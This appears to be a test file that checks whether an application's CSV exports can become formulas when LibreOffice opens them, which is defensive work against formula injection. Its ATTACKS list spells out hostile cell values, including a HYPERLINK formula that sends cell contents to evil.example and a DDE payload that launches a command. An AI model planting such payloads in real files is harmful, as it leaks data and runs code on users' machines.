/**
 * No CSV we write becomes a formula in a spreadsheet, whatever separator the spreadsheet splits on. LibreOffice
 * Calc (headless) imports each file with a comma and with a semicolon as the separator, with "evaluate
 * formulas" on (the CSV filter's 13th token), and saves it as xlsx; exceljs then reads every cell, and none may
 * be a formula. A control file with unguarded formulas proves the import does evaluate them. With the file's
 * own separator (and the regional language that goes with it: English for a comma, Spanish for a semicolon)
 * the file also opens in columns, with numbers as numbers.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import { writeExport, type CsvSeparator, type ExportColumn } from '../../src-main/core/export/index';
import { exportInteractions } from '../../src-main/core/reports/export-interactions';
import { openSqliteStore } from '../../src-main/core/store/sqlite/sqlite-store';
import { HOSTILE, inBatches, tempDir } from './export-helpers';
import { fixtureCache } from './export-fixture';

const soffice = spawnSync('sh', ['-c', 'command -v soffice'], { encoding: 'utf8' }).stdout.trim();
const missing = soffice ? false : 'no LibreOffice (soffice) on this machine: apt-get install libreoffice-calc-nogui (scripts/test-env/system.mjs installs it under npm test)';
if (missing) console.log(`# skipped the LibreOffice formula check: ${missing}`);

const COLUMNS: ExportColumn[] = [
  { key: 'id', header: 'Id', kind: 'integer' },
  { key: 'text', header: 'Texto', kind: 'text' },
  { key: 'score', header: 'Puntaje', kind: 'decimal' },
];

/** Texts built to become formulas in a careless CSV, in every position a reader might start a cell. */
const ATTACKS = [
  'x;=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x,=HYPERLINK("http://evil.example","y")', 'a\t=1+1', '=1+1',
  '+1+1', '-1+1', '@SUM(1,2)', 'one\n=2+2', 'one\r\n=2+2', 'a;"=3+3', 'a,""=3+3', '=cmd|\' /C calc\'!A0', 'ok;=1;=2,=3\t=4',
  'x; =5+5', '"=6+6"', 'a";=7+7', 'a",=7+7',
];

/** [import separator code, LibreOffice language id]: a comma with English settings, a semicolon with Spanish. */
const IMPORTS: Array<[CsvSeparator, number, number]> = [[',', 44, 1033], [';', 59, 3082]];

/** Every CSV in `dir` imported with one separator, evaluating formulas, and saved as xlsx in `out`. */
function importAll(files: string[], out: string, separatorCode: number, language: number, profile: string): void {
  const filter = `CSV:${separatorCode},34,76,1,,${language},false,true,false,false,false,-1,true`;
  const r = spawnSync(soffice, [`-env:UserInstallation=file://${profile}`, '--headless', '--infilter=' + filter, '--convert-to', 'xlsx', '--outdir', out, ...files], { encoding: 'utf8', timeout: 240_000 });
  assert.equal(r.status, 0, `soffice failed: ${r.stderr}`);
}

async function cellsOf(path: string): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((c) => cells.push(c)));
  return cells;
}

const isFormula = (c: ExcelJS.Cell) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined;

test('LibreOffice imports our CSVs with "," and with ";", evaluating formulas: no formula cell appears', { skip: missing }, async (t) => {
  const dir = tempDir(t);
  const files: string[] = [];
  const texts = [...HOSTILE.map((h) => h.input), ...ATTACKS];
  for (const [separator, name] of [[',', 'comma'], [';', 'semicolon'], ['\t', 'tab']] as const) {
    const path = join(dir, `hostile-${name}.csv`);
    const rows = texts.map((text, i) => ({ id: i + 1, text, score: i + 0.25 }));
    await writeExport({ outPath: path, format: 'csv', zone: 'UTC', csvSeparator: separator, sheets: [{ name: 'X', columns: COLUMNS, rows: inBatches(rows) }] });
    files.push(path);
  }
  // Real exports of a cache holding the same kind of text: api headers with commas, friendly Spanish with semicolons.
  const { db, path: dbPath } = fixtureCache();
  t.after(() => db.close());
  const store = await openSqliteStore({ dbPath, access: 'read', readers: 'on-demand' });
  t.after(() => store.close());
  for (const [headers, separator, language, name] of [['api', ',', 'en', 'api'], ['friendly', ';', 'es', 'friendly-es'], ['friendly', ',', 'en', 'friendly-en']] as const) {
    const path = join(dir, `cache-${name}.csv`);
    await exportInteractions(store, { filter: {}, format: 'csv', headers, language, separator, outPath: path, zone: 'America/Bogota' });
    files.push(path);
  }
  // The control: what a careless writer produces. It must give formula cells, or this test proves nothing.
  const control = join(dir, 'control.csv');
  writeFileSync(control, '\uFEFFa,b;c\r\n=1+1,x;=2+2\r\n');
  files.push(control);

  for (const [separator, code, language] of IMPORTS) {
    const out = join(dir, `imported-${code}`);
    mkdirSync(out);
    importAll(files, out, code, language, join(dir, 'lo-profile'));
    const control = await cellsOf(join(out, 'control.xlsx'));
    assert.ok(control.some(isFormula), `the control file imported with "${separator}" has a formula cell: the import evaluates formulas`);
    for (const file of files.filter((f) => !f.endsWith('control.csv'))) {
      const name = file.split('/').pop()!.replace(/\.csv$/, '');
      const cells = await cellsOf(join(out, `${name}.xlsx`));
      assert.ok(cells.length > 0, `${name}: imported`);
      const formulas = cells.filter(isFormula).map((c) => `${c.address}: ${String(c.formula ?? c.text)}`);
      assert.deepEqual(formulas, [], `${name} imported with "${separator}": no formula cell`);
    }
    // With its own separator and the matching regional language, the file opens in columns, numbers as numbers.
    const own = separator === ',' ? 'hostile-comma' : 'hostile-semicolon';
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(out, `${own}.xlsx`));
    const sheet = book.worksheets[0]!;
    assert.deepEqual([1, 2, 3].map((c) => sheet.getRow(1).getCell(c).text), ['Id', 'Texto', 'Puntaje'], `${own}: in columns`);
    const last = texts.length + 1;
    assert.equal(sheet.getRow(last).getCell(1).value, texts.length);
    assert.equal(sheet.getRow(last).getCell(3).value, texts.length - 1 + 0.25, `${own}: the decimal read as a number`);
  }
});
